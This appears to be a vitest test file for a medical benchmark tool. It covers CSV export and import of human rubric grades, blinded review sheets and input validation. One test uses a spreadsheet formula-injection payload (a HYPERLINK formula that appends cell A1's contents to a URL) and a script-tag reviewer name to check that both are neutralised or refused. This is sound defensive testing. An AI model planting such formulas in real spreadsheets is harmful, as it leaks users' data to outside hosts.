import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { temporaryFolder } from '../../test/support/temporary-folder.js';
import { testResultRecord, testRun } from '../../test/support/test-run.js';
import { MedbenchError } from '../core/errors.js';
import { rubricScore } from '../metrics/judge/rubric.js';
import type { HumanGrade } from '../store/human-grades.js';
import { Store } from '../store/store.js';
import { parseCsv } from '../suites/clue/parse-csv.js';
import { clueSuite } from '../suites/clue/suite.js';
import { DEFAULT_DOUBLE_SHARE, REVIEW_SEED, reviewQueue, reviewToken } from '../view/review-queue.js';
import { blankSheetCsv, csvText, GRADE_COLUMNS, gradesCsv } from './grades-csv.js';
import { importGrades } from './grades-import.js';
import { cellText, spreadsheetCell } from './spreadsheet-cell.js';

const suites = [clueSuite];
const RUN = 'cluerun0001';
const rubrics = clueSuite.review!.rubrics();
const tokenOf = (item: { runId: string; sampleId: string }) => reviewToken(REVIEW_SEED, item);

/** A CLUE run: MeQSum items 0–3 answered, 4 never answered; one MeDiSumQA answer. */
function storeWithRun(): Store {
  const store = new Store(':memory:');
  store.ensureRun(testRun({ id: RUN, suite: 'clue', label: 'model' }));
  const item = (task: string, order: number, ok = true) =>
    testResultRecord({
      runId: RUN,
      sampleId: `${task}/${order}`,
      task,
      params: { order },
      gold: { reference: `reference ${order}` },
      prompt: `Summarize: question ${order}`,
      status: ok ? 'ok' : 'error',
      rawOutput: ok ? `answer ${order}` : null,
      parsed: ok ? `answer ${order}` : null,
      scores: { rougeL: 0.5 },
    });
  for (const order of [0, 1, 2, 3]) store.putResult(item('meqsum', order));
  store.putResult(item('meqsum', 4, false));
  store.putResult(item('medisumqa', 0));
  store.putResult(item('medisumqa', 1));
  return store;
}

/** A grade of a MeQSum item meeting the criteria `met` (by the shipped rubric). */
function grade(sampleId: string, reviewer: string, met: string[], fields: Partial<HumanGrade> = {}) {
  const task = fields.task ?? 'meqsum';
  const rubric = rubrics[task]!;
  return {
    runId: RUN,
    sampleId,
    task,
    reviewer,
    rubricVersion: rubric.version,
    rubricSha256: rubric.sha256,
    verdicts: Object.fromEntries(
      rubric.criteria.map((criterion) => [criterion.id, met.includes(criterion.id)]),
    ),
    score: rubricScore({ criteria: [...rubric.criteria] }, new Set(met)).score,
    note: '',
    gradedAt: '2026-11-27T10:00:00.000Z',
    source: 'viewer' as const,
    ...fields,
  };
}

/** What a grade says, without its id and source (an imported grade is a `csv` one). */
const content = (grades: readonly HumanGrade[]) =>
  grades
    .map(({ id: _id, source: _source, ...rest }) => rest)
    .sort((a, b) => `${a.sampleId}${a.reviewer}`.localeCompare(`${b.sampleId}${b.reviewer}`));

function gradedStore(): Store {
  const store = storeWithRun();
  // Scores as the viewer computes them: 5/19 for keeps-focus alone, 10/19 with keeps-question-type.
  store.humanGrades.add(
    grade('meqsum/0', 'alice', ['keeps-focus'], {
      note: 'short, "but" fine,\nsecond line',
      gradedAt: '2026-11-27T09:00:00.000Z',
    }),
  );
  store.humanGrades.add(grade('meqsum/0', 'bob', ['keeps-focus', 'keeps-question-type']));
  store.humanGrades.add(grade('meqsum/1', 'alice', []));
  store.humanGrades.add(
    grade('meqsum/1', 'alice', ['keeps-focus'], { gradedAt: '2026-11-27T11:00:00.000Z' }),
  );
  const medisumqa = rubrics.medisumqa!.criteria[0]!.id;
  store.humanGrades.add(grade('medisumqa/0', 'bob', [medisumqa], { task: 'medisumqa' }));
  return store;
}

/** A reviewer's queue as the viewer orders it (the default seed and share). */
const queue =
  (reviewer: string) =>
  (items: Parameters<typeof reviewQueue>[0], grades: Parameters<typeof reviewQueue>[1]) =>
    reviewQueue(items, grades, { seed: REVIEW_SEED, doubleShare: DEFAULT_DOUBLE_SHARE, reviewer }).next;

function write(folder: string, name: string, text: string): string {
  const path = join(folder, name);
  writeFileSync(path, text);
  return path;
}

describe('grades as CSV', () => {
  it('exports current grades (or every edit), imports them into a fresh store unchanged, and a second import adds nothing', async () => {
    const folder = temporaryFolder('medbench-grades-');
    const source = gradedStore();
    const current = gradesCsv(source, suites, { tokenOf });
    const rows = parseCsv(current.text).map((row) => row.fields);
    expect(rows[0]!.slice(0, 10)).toEqual([...GRADE_COLUMNS]);
    expect(GRADE_COLUMNS).toContain('rubric_sha256');
    expect(rows[0]).toContain('criterion:keeps-focus');
    expect(rows).toHaveLength(1 + 4);
    // RFC 4180: the note's comma, quotes and line break survive.
    expect(current.text).toContain('"short, ""but"" fine,\nsecond line"');
    const alice = rows.find((row) => row[4] === 'alice' && row[2] === 'meqsum/0')!;
    expect(alice[3]).toBe(tokenOf({ runId: RUN, sampleId: 'meqsum/0' }));
    expect(alice[rows[0]!.indexOf('criterion:keeps-focus')]).toBe('1');
    expect(alice[rows[0]!.indexOf('criterion:adds-facts')]).toBe('0');
    // A MeQSum row has no MeDiSumQA criterion: blank.
    expect(alice[rows[0]!.indexOf(`criterion:${rubrics.medisumqa!.criteria[0]!.id}`)]).toBe('');
    expect(parseCsv(gradesCsv(source, suites, { tokenOf, history: true }).text)).toHaveLength(1 + 5);
    expect(parseCsv(gradesCsv(source, suites, { tokenOf, task: 'medisumqa' }).text)).toHaveLength(1 + 1);
    expect(parseCsv(gradesCsv(source, suites, { tokenOf, task: 'medisumqa, meqsum' }).text)).toHaveLength(
      1 + 4,
    );
    expect(() => gradesCsv(source, suites, { tokenOf, task: 'mednli' })).toThrow(
      /--task mednli: not a task people grade/,
    );

    const file = write(folder, 'grades.csv', current.text);
    const fresh = storeWithRun();
    expect(await importGrades(fresh, suites, file, { tokenOf })).toEqual({
      grades: 4,
      added: 4,
      skipped: 0,
      ungraded: 0,
    });
    expect(content(fresh.humanGrades.current())).toEqual(content(source.humanGrades.current()));
    expect(fresh.humanGrades.current().every((stored) => stored.source === 'csv')).toBe(true);
    expect(await importGrades(fresh, suites, file, { tokenOf })).toMatchObject({ added: 0, skipped: 4 });
    expect(fresh.humanGrades.history()).toHaveLength(4);
    // The store's own export (viewer grades, edits too) imported back: nothing added, nothing twice.
    const history = write(folder, 'history.csv', gradesCsv(source, suites, { tokenOf, history: true }).text);
    expect(await importGrades(source, suites, history, { tokenOf })).toMatchObject({ added: 0, skipped: 5 });
    expect(source.humanGrades.history()).toHaveLength(5);
    expect(source.humanGrades.history().every((stored) => stored.source === 'viewer')).toBe(true);
  });

  it("a blank sheet of the team's own rubric (--rubric) carries its criteria and version, and imports under it", async () => {
    const folder = temporaryFolder('medbench-grades-');
    const rubric = write(
      folder,
      'rubric.json',
      JSON.stringify({
        task: 'meqsum',
        version: 'team-2',
        definition: 'Summarise the question.',
        criteria: [{ id: 'on-topic', text: 'Asks about the same thing.', points: 1 }],
      }),
    );
    const store = gradedStore();
    const sheet = blankSheetCsv(store, suites, {
      task: 'meqsum',
      reviewer: 'erin',
      limit: 1,
      rubric: [rubric],
      tokenOf,
      queue: queue('erin'),
    });
    const [header, row] = parseCsv(sheet.text).map((line) => line.fields);
    expect(header!.filter((column) => column.startsWith('criterion:'))).toEqual(['criterion:on-topic']);
    expect(row![header!.indexOf('rubric_version')]).toBe('team-2');
    row![header!.indexOf('criterion:on-topic')] = '1';
    const filled = write(folder, 'filled.csv', csvText([header!, row!]));
    expect(await importGrades(store, suites, filled, { tokenOf, rubric: [rubric] })).toMatchObject({
      added: 1,
    });
  });

  it('a blank sheet is blinded, importable once filled, and refused for restricted text without the acknowledgement', async () => {
    const folder = temporaryFolder('medbench-grades-');
    const store = gradedStore();
    const sheet = blankSheetCsv(store, suites, {
      task: 'meqsum',
      reviewer: 'carol',
      limit: 2,
      tokenOf,
      queue: queue('carol'),
    });
    const [header, ...rows] = parseCsv(sheet.text).map((row) => row.fields);
    expect(header).not.toContain('run');
    expect(header).not.toContain('sample');
    expect(rows).toHaveLength(2);
    expect(sheet.text).not.toContain(RUN);
    // Carol's queue: MeQSum's four answered items (4 was never answered), in her own order.
    const expected = reviewQueue(
      [0, 1, 2, 3].map((order) => ({ runId: RUN, sampleId: `meqsum/${order}`, task: 'meqsum' })),
      store.humanGrades.current(),
      { seed: REVIEW_SEED, doubleShare: DEFAULT_DOUBLE_SHARE, reviewer: 'carol' },
    ).next.slice(0, 2);
    expect(rows.map((row) => row[0])).toEqual(expected.map(tokenOf));
    expect(rows[0]![header!.indexOf('input')]).toMatch(/^Summarize: question \d$/);
    // Carol marks keeps-focus met and everything else not on the first row, leaves the second blank.
    const filled = rows.map((row, index) =>
      header!.map((column, at) =>
        index === 0 && column.startsWith('criterion:')
          ? column === 'criterion:keeps-focus'
            ? 'yes'
            : '0'
          : row[at]!,
      ),
    );
    const file = write(folder, 'sheet.csv', csvText([header!, ...filled]));
    const before = store.humanGrades.history().length;
    expect(await importGrades(store, suites, file, { tokenOf, now: '2026-11-27T12:00:00.000Z' })).toEqual({
      grades: 1,
      added: 1,
      skipped: 0,
      ungraded: 1,
    });
    const added = store.humanGrades.history({ reviewer: 'carol' });
    expect(added).toMatchObject([
      { runId: RUN, sampleId: expected[0]!.sampleId, score: 5 / 19, gradedAt: '2026-11-27T12:00:00.000Z' },
    ]);
    expect(store.humanGrades.history()).toHaveLength(before + 1);
    // Imported again later: the row has no time of its own, and says what Carol's grade says: nothing added.
    expect(
      await importGrades(store, suites, file, { tokenOf, now: '2026-11-27T13:00:00.000Z' }),
    ).toMatchObject({
      added: 0,
      skipped: 1,
    });
    expect(store.humanGrades.history()).toHaveLength(before + 1);

    const refused = (() => {
      try {
        blankSheetCsv(store, suites, {
          task: 'medisumqa',
          reviewer: 'carol',
          limit: 5,
          tokenOf,
          queue: queue('carol'),
        });
      } catch (error) {
        return error;
      }
    })();
    expect(MedbenchError.is(refused) && refused.code).toBe('DATA_RESTRICTED');
    expect((refused as Error).message).toMatch(/restricted text/);
    const allowed = blankSheetCsv(store, suites, {
      task: 'medisumqa',
      reviewer: 'carol',
      limit: 5,
      restrictedOk: true,
      tokenOf,
      queue: queue('carol'),
    });
    expect(allowed.items).toBe(1);
    expect(allowed.text).toContain('reference 1');
  });

  it('text a spreadsheet would run as a formula is written with a quote before it; a note comes back unchanged', async () => {
    const folder = temporaryFolder('medbench-grades-');
    const store = storeWithRun();
    const hostile = '=HYPERLINK("http://x/?"&A1,"Click")';
    store.putResult(
      testResultRecord({
        runId: RUN,
        sampleId: 'meqsum/5',
        task: 'meqsum',
        params: { order: 5 },
        gold: { reference: '+1 call 555' },
        prompt: '@SUM(1+1)',
        rawOutput: hostile,
        parsed: hostile,
        scores: { rougeL: 0.5 },
      }),
    );
    const sheet = blankSheetCsv(store, suites, {
      task: 'meqsum',
      reviewer: 'carol',
      limit: 10,
      tokenOf,
      queue: queue('carol'),
    });
    const [header, ...rows] = parseCsv(sheet.text).map((row) => row.fields);
    const row = rows.find((cells) => cells[0] === tokenOf({ runId: RUN, sampleId: 'meqsum/5' }))!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect([cell('input'), cell('reference'), cell('answer')]).toEqual([
      "'@SUM(1+1)",
      "'+1 call 555",
      `'${hostile}`,
    ]);
    expect(rows.some((cells) => cells[header!.indexOf('input')] === 'Summarize: question 0')).toBe(true);

    // Notes: each starting like a formula, or with a quote a reader could take for the guard.
    const notes = [hostile, '-2 points', '+ok', '@mention', '\tTab first', '-', "'=quoted already", "'plain"];
    for (const [index, note] of notes.entries())
      store.humanGrades.add(
        grade(`meqsum/${index % 4}`, `r${index}`, ['keeps-focus'], {
          note,
          gradedAt: `2026-11-27T10:0${index}:00.000Z`,
        }),
      );
    const exported = parseCsv(gradesCsv(store, suites, { tokenOf }).text).map((cells) => cells.fields);
    const noteCells = exported.slice(1).map((cells) => cells[exported[0]!.indexOf('note')]);
    expect(noteCells).toEqual([
      `'${hostile}`,
      "'-2 points",
      "'+ok",
      "'@mention",
      "'\tTab first",
      "'-",
      "''=quoted already",
      "'plain",
    ]);
    // A carriage return too (a CSV reader reads one inside a note as a line break: not round-tripped).
    expect(spreadsheetCell('\rx')).toBe("'\rx");
    expect(cellText("'\rx")).toBe('\rx');
    const file = write(folder, 'grades.csv', gradesCsv(store, suites, { tokenOf }).text);
    expect(await importGrades(store, suites, file, { tokenOf })).toMatchObject({ added: 0, skipped: 8 });
    const fresh = storeWithRun();
    expect(await importGrades(fresh, suites, file, { tokenOf })).toMatchObject({ added: 8 });
    expect(content(fresh.humanGrades.current())).toEqual(content(store.humanGrades.current()));
    expect(
      fresh.humanGrades
        .history()
        .map((stored) => stored.id)
        .sort(),
    ).toEqual(
      store.humanGrades
        .history()
        .map((stored) => stored.id)
        .sort(),
    );
  });

  describe('bad input: a named error, and the store unchanged', () => {
    const good = () => {
      const [header, ...rows] = parseCsv(gradesCsv(gradedStore(), suites, { tokenOf }).text).map(
        (row) => row.fields,
      );
      return { header: header!, rows };
    };
    /** The good file with `column` of its first row (line 2) set to `value` (or the column removed). */
    const edited = (column: string, value: string | null) => {
      const { header, rows } = good();
      const at = header.indexOf(column);
      if (value === null)
        return csvText([
          header.filter((_, index) => index !== at),
          ...rows.map((row) => row.filter((_, index) => index !== at)),
        ]);
      rows[0]![at] = value;
      return csvText([header, ...rows]);
    };
    const cases: Array<[string, string, RegExp]> = [
      [
        'an unknown run',
        edited('run', 'nosuchrun'),
        /line 2, column "run": run "nosuchrun", sample "meqsum\/0" is not an answer/,
      ],
      [
        'an unknown sample',
        edited('sample', 'meqsum/99'),
        /line 2, column "sample": .*"meqsum\/99" is not an answer/,
      ],
      ['a sample never answered', edited('sample', 'meqsum/4'), /line 2, column "sample"/],
      [
        'a token of no item',
        edited('item', 'feedfacefeedface'),
        /line 2, column "item": "feedfacefeedface" is not the token of run/,
      ],
      [
        "a task that is not the item's",
        edited('task', 'medisumqa'),
        /line 2, column "task": "medisumqa" is not the item's task, meqsum/,
      ],
      [
        'a criterion column missing',
        edited('criterion:succinct', null),
        /line 2, column "criterion:succinct": is missing: meqsum's rubric \(version 1\) has the criterion "succinct"/,
      ],
      [
        'a criterion marked "maybe"',
        edited('criterion:succinct', 'maybe'),
        /line 2, column "criterion:succinct": "maybe": mark the criterion 1 \(met\) or 0/,
      ],
      [
        'a criterion left blank',
        edited('criterion:succinct', ''),
        /line 2, column "criterion:succinct": is blank/,
      ],
      [
        'another rubric version',
        edited('rubric_version', '0'),
        /line 2, column "rubric_version": the row was graded by rubric version 0/,
      ],
      [
        'another rubric digest',
        edited('rubric_sha256', 'a'.repeat(64)),
        /line 2, column "rubric_sha256": the row was graded by rubric version 1 \(aaaaaaaaaaaa…\)/,
      ],
      [
        'a bad timestamp',
        edited('graded_at', '27/11/2026'),
        /line 2, column "graded_at": is not an ISO 8601 time/,
      ],
      ['an empty reviewer', edited('reviewer', ' '), /line 2, column "reviewer": is empty/],
      [
        "a reviewer name the viewer's --reviewer refuses",
        edited('reviewer', '<script>x</script>'),
        /line 2, column "reviewer": "<script>x<\/script>" has characters other than letters, digits/,
      ],
      [
        'a note longer than the viewer takes',
        edited('note', 'x'.repeat(5000)),
        /line 2, column "note": is 5000 characters long: a note is at most 2000 characters/,
      ],
      [
        'an unknown column',
        edited('note', 'x').replace('note,', 'notes,'),
        /line 1, column "notes": is not a column of a grades file/,
      ],
      [
        'a file separated by semicolons (as a European spreadsheet saves it)',
        edited('note', 'x').replaceAll(',', ';'),
        /line 1: the header is one column holding semicolons: the file is not comma-separated; save it as CSV UTF-8 \(comma-delimited\)/,
      ],
      [
        'a file separated by tabs',
        edited('note', 'x').replaceAll(',', '\t'),
        /line 1: the header is one column holding tabs: the file is not comma-separated/,
      ],
      ['a row with a field too many', `${edited('note', 'x')}a,b\r\n`, /line \d+: has 2 fields, the header/],
      [
        'two rows of one item and reviewer, both without a time',
        (() => {
          const { header, rows } = good();
          const untimed = rows[0]!.map((cell, at) => (header[at] === 'graded_at' ? '' : cell));
          return csvText([header, untimed, [...untimed]]);
        })(),
        /line \d+, column "graded_at": is blank, as on line 2, which grades the same item by alice/,
      ],
    ];
    it.each(cases)('%s', async (_, text, expected) => {
      const folder = temporaryFolder('medbench-grades-');
      const file = write(folder, 'bad.csv', text);
      const store = storeWithRun();
      store.humanGrades.add(grade('meqsum/2', 'dora', []));
      const before = store.humanGrades.history();
      const error = await importGrades(store, suites, file, { tokenOf }).catch((caught: unknown) => caught);
      expect(MedbenchError.is(error) && error.code).toBe('DATA_INVALID');
      expect((error as Error).message).toContain(`${file}: `);
      expect((error as Error).message).toContain('nothing was imported');
      expect((error as Error).message).toMatch(expected);
      expect(store.humanGrades.history()).toEqual(before);
    });
  });
});
